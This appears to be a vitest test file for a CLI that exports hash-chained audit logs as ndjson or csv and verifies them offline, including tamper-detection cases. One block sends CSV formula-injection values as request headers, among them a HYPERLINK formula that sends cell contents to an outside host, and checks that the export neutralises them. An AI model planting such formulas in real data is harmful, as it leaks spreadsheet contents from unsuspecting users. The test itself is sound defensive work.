import { randomUUID } from 'node:crypto';
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { createProgressBar, renderProgress } from '../../src/cli/progress.js';
import { GENESIS_HASH } from '../../src/modules/audit/audit-chain.js';
import { createAuditChainSealer, type AuditChainSealer } from '../../src/modules/audit/audit-chain.sealer.js';
import { createAuditRepository } from '../../src/modules/audit/audit.repository.js';
import { createTestContext, type TestContext } from '../helpers/harness.js';
import { runSvc, type SvcResult } from '../helpers/svc-process.js';
import { runSvcInProcess } from '../helpers/cli-in-process.js';

// The commands run in this process (runSvcInProcess); the first export to stdout runs as a process of its own.
vi.setConfig({ testTimeout: 120_000 });

let ctx: TestContext;
let sealer: AuditChainSealer;
const folder = mkdtempSync(join(tmpdir(), 'svc-audit-export-'));
beforeAll(async () => {
  ctx = await createTestContext();
  sealer = createAuditChainSealer({ database: ctx.database, pollIntervalMs: 60_000 });
});
afterAll(async () => {
  await sealer?.stop();
  await ctx?.close();
  rmSync(folder, { recursive: true, force: true });
});

/** `svc` at its default log level (warn for operator commands): stderr carries errors only. */
function svc(...args: string[]): Promise<SvcResult> {
  return runSvcInProcess(args, { DATABASE_URL: ctx.databaseUrl, LOG_LEVEL: 'info' });
}

/** `svc audit verify --file` needs no database: it runs without DATABASE_URL (and without DATA_DIR's embedded one). */
function verifyFile(file: string, ...more: string[]): Promise<SvcResult> {
  return runSvcInProcess(['audit', 'verify', '--file', file, ...more], {
    LOG_LEVEL: 'info',
    DATABASE_URL: undefined,
    DATA_DIR: join(folder, 'no-data-dir'),
  });
}

let files = 0;
const fileNamed = (extension: string) => join(folder, `export-${(files += 1)}.${extension}`);

/**
 * An organisation with API changes (an API key actor with its label, an Idempotency-Key) and rows
 * whose values a csv must quote (commas, quotes, a newline, an empty string), all sealed; created_at
 * one day apart from 2026-01-01 on, so --from/--to can cut it. Seven rows: the organisation and its key
 * (1, 2), the two customers (3, 4), the three test rows (5 to 7; the sixth with request id "").
 */
async function sealedOrganisation(): Promise<{ id: string }> {
  const org = await ctx.createOrg();
  for (const n of [1, 2]) {
    const created = await ctx.request('POST', '/v1/customers', {
      key: org.key,
      headers: { 'idempotency-key': `create-${n}-${randomUUID()}` },
      body: { fullName: `Person ${n}`, email: `p${n}@example.com` },
    });
    expect(created.statusCode, created.body).toBe(201);
  }
  const audit = createAuditRepository();
  for (const n of [1, 2, 3]) {
    await ctx.database.transaction((tx) =>
      audit.record(
        {
          orgId: org.id,
          actor: { type: 'operator', id: 'cli:test', requestId: n === 2 ? '' : `req-${n}` },
          action: 'test.changed',
          subjectType: 'test',
          subjectId: randomUUID(),
          before: n === 1 ? null : { note: `a, "quoted" note\nover two lines #${n - 1}` },
          after: { note: `a, "quoted" note\nover two lines #${n}`, empty: '', n },
        },
        tx,
      ),
    );
  }
  await ctx.database.pool.query(
    `UPDATE audit_log a SET created_at = timestamptz '2026-01-01T00:00:00Z' + (o.n - 1) * interval '1 day'
       FROM (SELECT id, row_number() OVER (ORDER BY created_at, id) AS n FROM audit_log WHERE org_id = $1) o
      WHERE a.id = o.id`,
    [org.id],
  );
  await sealer.sealOnce();
  return org;
}

async function headOf(orgId: string): Promise<{ sequence: number; hash: string }> {
  const result = await svc('audit', 'head', '--org', orgId);
  expect(result.code, result.stderr).toBe(0);
  return JSON.parse(result.stdout);
}

/** An ndjson export of the organisation, through stdout, saved to a file; returns its path and lines. */
async function ndjsonExport(orgId: string, ...more: string[]): Promise<{ file: string; lines: string[] }> {
  const result = await svc('audit', 'export', '--org', orgId, ...more);
  expect(result.code, result.stderr).toBe(0);
  const file = fileNamed('ndjson');
  writeFileSync(file, result.stdout);
  return { file, lines: result.stdout.trimEnd().split('\n') };
}

async function expectBroken(file: string, brokenAt: Record<string, unknown>): Promise<void> {
  const result = await verifyFile(file);
  expect(result.code, result.stderr).toBe(2);
  expect(JSON.parse(result.stdout)).toMatchObject({ ok: false, broken_at: brokenAt });
  expect(result.stderr).toMatch(
    new RegExp(`audit export broken at sequence ${brokenAt.sequence as number} \\(${brokenAt.problem as string}\\)`),
  );
}

describe('svc audit export --format ndjson', () => {
  it('when exported to stdout (not a terminal), stdout carries only the records in sequence order and the manifest last, stderr nothing', async () => {
    const org = await sealedOrganisation();
    const head = await headOf(org.id);
    // A process of its own, its stdout a pipe, as a script would run it.
    const result = await runSvc(['audit', 'export', '--org', org.id], { DATABASE_URL: ctx.databaseUrl, LOG_LEVEL: 'info' });
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toBe('');
    const lines = result.stdout
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines).toHaveLength(head.sequence + 1);
    const records = lines.slice(0, -1);
    expect(records.map((record) => record.sequence)).toEqual(records.map((_, index) => index + 1));
    const manifest = lines.at(-1).manifest;
    expect(manifest).toEqual({
      org_id: org.id,
      rows: head.sequence,
      first_sequence: 1,
      last_sequence: head.sequence,
      prev_hash: GENESIS_HASH,
      head_hash: head.hash,
      from: null,
      to: null,
      exported_at: expect.any(String),
      format: 'ndjson',
    });
    // What GET /v1/audit-events returns, plus what the hash covers.
    const apiChange = records.find((record) => record.actor.type === 'api_key');
    expect(Object.keys(apiChange).sort()).toEqual(
      [
        'action',
        'actor',
        'after',
        'before',
        'changes',
        'created_at',
        'hash',
        'id',
        'idempotency_key',
        'org_id',
        'request_id',
        'sequence',
        'subject',
      ].sort(),
    );
    expect(apiChange.idempotency_key).toMatch(/^create-1-/);
    expect(apiChange.changes.email).toEqual({ old: null, new: 'p1@example.com' });
  });

  it('when the export is verified offline, without a database, it is ok with the rows, first and last sequence and head hash', async () => {
    const org = await sealedOrganisation();
    const head = await headOf(org.id);
    const { file } = await ndjsonExport(org.id);
    const result = await verifyFile(file);
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout)).toEqual({
      ok: true,
      org_id: org.id,
      rows: head.sequence,
      first_sequence: 1,
      last_sequence: head.sequence,
      prev_hash: GENESIS_HASH,
      head_hash: head.hash,
      from: null,
      to: null,
      format: 'ndjson',
    });
  });

  it('when one line is edited, verify --file names that row as edited and exits 2', async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    const record = JSON.parse(lines[3]!);
    record.action = 'customer.deleted';
    lines[3] = JSON.stringify(record);
    writeFileSync(file, `${lines.join('\n')}\n`);
    await expectBroken(file, { sequence: 4, id: record.id, problem: 'edited' });
  });

  it("when only a line's changes are edited (what its hash does not cover), verify --file names it as edited", async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    const record = JSON.parse(lines[1]!);
    record.changes.email = { old: null, new: 'someone.else@example.com' };
    lines[1] = JSON.stringify(record);
    writeFileSync(file, `${lines.join('\n')}\n`);
    await expectBroken(file, { sequence: 2, id: record.id, problem: 'edited' });
  });

  it('when one line is deleted, verify --file names its sequence as deleted', async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    lines.splice(2, 1);
    writeFileSync(file, `${lines.join('\n')}\n`);
    await expectBroken(file, { sequence: 3, id: null, problem: 'deleted' });
  });

  it('when a line is copied in a second time, verify --file names the copy as inserted', async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    const third = JSON.parse(lines[2]!);
    lines.splice(3, 0, lines[2]!);
    writeFileSync(file, `${lines.join('\n')}\n`);
    await expectBroken(file, { sequence: 3, id: third.id, problem: 'inserted' });
  });

  it('when two lines are swapped, verify --file names the row out of its place as reordered', async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    const second = JSON.parse(lines[1]!);
    [lines[1], lines[3]] = [lines[3]!, lines[1]!];
    writeFileSync(file, `${lines.join('\n')}\n`);
    await expectBroken(file, { sequence: 2, id: second.id, problem: 'reordered' });
  });

  it('when the file is truncated (the tail and the manifest cut off, mid-line too), verify --file says truncated after the last whole row', async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    writeFileSync(file, `${lines.slice(0, 3).join('\n')}\n`);
    await expectBroken(file, { sequence: 4, id: null, problem: 'truncated' });
    writeFileSync(file, `${lines.slice(0, 3).join('\n')}\n${lines[3]!.slice(0, 40)}`);
    await expectBroken(file, { sequence: 4, id: null, problem: 'truncated' });
  });

  it('when the last rows are deleted but the manifest kept, verify --file says truncated from the first missing sequence', async () => {
    const org = await sealedOrganisation();
    const { file, lines } = await ndjsonExport(org.id);
    writeFileSync(file, `${[...lines.slice(0, 2), lines.at(-1)].join('\n')}\n`);
    await expectBroken(file, { sequence: 3, id: null, problem: 'truncated' });
  });

  it('when the manifest is changed (head hash, row count or prev hash), verify --file names the manifest', async () => {
    const org = await sealedOrganisation();
    const head = await headOf(org.id);
    const { file, lines } = await ndjsonExport(org.id);
    const write = (change: (manifest: Record<string, unknown>) => void) => {
      const { manifest } = JSON.parse(lines.at(-1)!);
      change(manifest);
      writeFileSync(file, `${[...lines.slice(0, -1), JSON.stringify({ manifest })].join('\n')}\n`);
    };
    write((manifest) => (manifest.head_hash = 'f'.repeat(64)));
    await expectBroken(file, { sequence: head.sequence, problem: 'manifest' });
    write((manifest) => (manifest.rows = head.sequence - 1));
    await expectBroken(file, { sequence: head.sequence, problem: 'manifest' });
    write((manifest) => (manifest.last_sequence = head.sequence - 1));
    await expectBroken(file, { sequence: head.sequence, problem: 'manifest' });
    // The first row no longer follows the hash the manifest says it chains to.
    write((manifest) => (manifest.prev_hash = 'f'.repeat(64)));
    await expectBroken(file, { sequence: 1, problem: 'edited' });
  });

  it('when --from/--to cut the chain, the slice carries the hash before its first row and verifies on its own', async () => {
    const org = await sealedOrganisation();
    const all = (await ndjsonExport(org.id)).lines.slice(0, -1).map((line) => JSON.parse(line));
    const { file, lines } = await ndjsonExport(org.id, '--from', '2026-01-02', '--to', '2026-01-04T00:00:00Z');
    const records = lines.slice(0, -1).map((line) => JSON.parse(line));
    expect(records.map((record) => record.sequence)).toEqual([2, 3]);
    const { manifest } = JSON.parse(lines.at(-1)!);
    expect(manifest).toMatchObject({
      rows: 2,
      first_sequence: 2,
      last_sequence: 3,
      prev_hash: all[0].hash,
      head_hash: all[2].hash,
      from: '2026-01-02T00:00:00.000Z',
      to: '2026-01-04T00:00:00.000Z',
    });
    const result = await verifyFile(file);
    expect(result.code, result.stderr).toBe(0);
    expect(JSON.parse(result.stdout)).toMatchObject({ ok: true, rows: 2, first_sequence: 2, last_sequence: 3 });
    // A slice with no row at all is an empty, valid export.
    const empty = await ndjsonExport(org.id, '--from', '2030-01-01');
    expect(empty.lines).toHaveLength(1);
    expect((await verifyFile(empty.file)).code).toBe(0);
  });
});

describe('svc audit export --format csv', () => {
  it('when exported with --out, the file is a header, the records and a final "# manifest" line; stdout is the manifest as one JSON document; verify --file is ok', async () => {
    const org = await sealedOrganisation();
    const head = await headOf(org.id);
    const file = fileNamed('csv');
    const result = await svc('audit', 'export', '--org', org.id, '--format', 'csv', '--out', file);
    expect(result.code, result.stderr).toBe(0);
    expect(result.stderr).toBe('');
    expect(JSON.parse(result.stdout)).toMatchObject({ org_id: org.id, rows: head.sequence, head_hash: head.hash, format: 'csv' });
    expect(existsSync(`${file}.partial`)).toBe(false);
    const text = readFileSync(file, 'utf8');
    expect(text.split('\n')[0]).toBe(
      'id,sequence,created_at,org_id,actor_type,actor_id,actor_key_label,action,subject_type,subject_id,changes,before,after,request_id,idempotency_key,hash',
    );
    expect(text.trimEnd().split('\n').at(-1)).toMatch(/^# manifest \{"org_id":/);
    const verified = await verifyFile(file);
    expect(verified.code, verified.stderr).toBe(0);
    // Nulls and empty strings, quotes, commas and newlines all came back as they were hashed.
    expect(JSON.parse(verified.stdout)).toMatchObject({ ok: true, rows: head.sequence, head_hash: head.hash, format: 'csv' });
  });

  it('when a csv field is edited or a record deleted, verify --file names the row', async () => {
    const org = await sealedOrganisation();
    const file = fileNamed('csv');
    expect((await svc('audit', 'export', '--org', org.id, '--format', 'csv', '--out', file)).code).toBe(0);
    const text = readFileSync(file, 'utf8');
    // The request id "" of the sixth row (an empty string, not null) made null: the hash covers the difference.
    const edited = text.replace(/,"",(?=[^,]*,[0-9a-f]{64}\n)/, ',,');
    expect(edited).not.toBe(text);
    writeFileSync(file, edited);
    await expectBroken(file, { sequence: 6, problem: 'edited' });
    // Row 2 is one line (an API change): without it, sequence 2 is missing.
    const lines = text.split('\n');
    expect(lines[2]!.startsWith(`${lines[2]!.split(',')[0]},2,`)).toBe(true);
    lines.splice(2, 1);
    writeFileSync(file, lines.join('\n'));
    await expectBroken(file, { sequence: 2, id: null, problem: 'deleted' });
  });
});

describe('svc audit export --format csv and hostile header values', () => {
  /** Each field of a csv record as a spreadsheet reads it: quotes undone, nothing else. */
  function cellsAsRead(line: string): string[] {
    return [...line.matchAll(/(?:^|,)("(?:[^"]|"")*"|[^,]*)/g)].map(([, cell]) =>
      cell!.startsWith('"') ? cell!.slice(1, -1).replaceAll('""', '"') : cell!,
    );
  }

  it('when an Idempotency-Key or X-Request-Id is a formula, the csv shows no formula cell and verify --file is still ok', async () => {
    const org = await ctx.createOrg();
    const hostile = [
      { idempotency: '=HYPERLINK("http://x/?"&A1,"Click")', requestId: '-1-1' },
      { idempotency: "'=1+1", requestId: '-2-2' },
      { idempotency: '@SUM(A1:A9)', requestId: 'plain-id' },
    ];
    for (const [n, { idempotency, requestId }] of hostile.entries()) {
      const created = await ctx.request('POST', '/v1/customers', {
        key: org.key,
        headers: { 'idempotency-key': idempotency, 'x-request-id': requestId },
        body: { fullName: `Formula Person ${n}`, email: `formula${n}@example.com` },
      });
      expect(created.statusCode, created.body).toBe(201);
    }
    await sealer.sealOnce();
    const file = fileNamed('csv');
    const result = await svc('audit', 'export', '--org', org.id, '--format', 'csv', '--out', file);
    expect(result.code, result.stderr).toBe(0);
    const lines = readFileSync(file, 'utf8').trimEnd().split('\n');
    // Every record here is one line (no value holds a newline); the header first, the manifest last.
    const cells = lines.slice(1, -1).flatMap(cellsAsRead);
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const { idempotency, requestId } of hostile) {
      expect(cells).toContain(`'${idempotency}`);
      expect(cells).toContain(requestId.startsWith('-') ? `'${requestId}` : requestId);
    }
    const verified = await verifyFile(file);
    expect(verified.code, verified.stderr).toBe(0);
    expect(JSON.parse(verified.stdout)).toMatchObject({ ok: true, org_id: org.id, format: 'csv' });
    // The values came back as sent, and as the API shows them.
    const events = await ctx.request('GET', '/v1/audit-events?action=customer.created', { key: org.key });
    expect(
      events.json().data.map((event: { idempotency_key: string; request_id: string }) => [event.idempotency_key, event.request_id]),
    ).toEqual(hostile.map(({ idempotency, requestId }) => [idempotency, requestId]));
  });
});

describe('svc audit export failures and verify arguments', () => {
  it('when the organisation is unknown, the export exits 1 with nothing on stdout and leaves no file behind', async () => {
    const file = fileNamed('ndjson');
    const result = await svc('audit', 'export', '--org', '00000000-0000-4000-8000-000000000000', '--out', file);
    expect(result.code).toBe(1);
    expect(result.stdout).toBe('');
    expect(result.stderr).toMatch(/Organisation not found/);
    expect(existsSync(file)).toBe(false);
    expect(existsSync(`${file}.partial`)).toBe(false);
  });

  it('when --from has no offset or verify gets both --org and --file, it exits 1 and says why', async () => {
    const org = await ctx.createOrg();
    const local = await svc('audit', 'export', '--org', org.id, '--from', '2026-01-01T09:00:00');
    expect(local.code).not.toBe(0);
    expect(local.stdout).toBe('');
    expect(local.stderr).toMatch(/--from must be an ISO 8601 date/);
    const both = await svc('audit', 'verify', '--org', org.id, '--file', join(folder, 'x.ndjson'));
    expect(both.code).toBe(1);
    expect(both.stderr).toMatch(/either --org or --file/);
  });

  it('when a date lies outside years 0001 to 9999, export --from/--to and purge --before exit 1 naming the option and the range, before the database', async () => {
    const org = await ctx.createOrg();
    for (const args of [
      ['audit', 'export', '--org', org.id, '--from', '0000-01-01'],
      ['audit', 'export', '--org', org.id, '--to', '0000-12-31T23:00:00Z'],
      ['audit', 'purge', '--org', org.id, '--before', '0000-01-01'],
    ]) {
      const result = await svc(...args);
      const option = args[4]!;
      expect(result.code, args.join(' ')).toBe(1);
      expect(result.stdout).toBe('');
      expect(result.stderr).toContain(`${option}: Must lie between 0001-01-01T00:00:00Z and 9999-12-31T23:59:59.999Z`);
      expect(result.stderr).not.toMatch(/database refused/);
    }
  });
});

describe('the export progress bar', () => {
  it('when stderr is not a terminal, it draws nothing', () => {
    const written: string[] = [];
    const bar = createProgressBar({ isTTY: false, write: (text) => written.push(text) });
    bar.start(100);
    bar.update(50);
    bar.stop();
    expect(written).toEqual([]);
  });

  it('when stderr is a terminal, it draws rows/s and the ETA in place, redrawn at most every 200 ms', () => {
    const written: string[] = [];
    let now = 0;
    const bar = createProgressBar({ isTTY: true, write: (text) => written.push(text) }, () => now);
    bar.start(10_000);
    now = 1_000;
    bar.update(2_500);
    now = 1_050;
    bar.update(2_600);
    bar.stop();
    expect(written[1]).toBe(`\r${renderProgress(2_500, 10_000, 1_000)}\x1b[K`);
    expect(written[1]).toContain(' 25% 2,500/10,000 rows  2,500 rows/s  ETA 3s');
    expect(written).toHaveLength(4);
    expect(written.at(-1)).toBe('\n');
  });
});
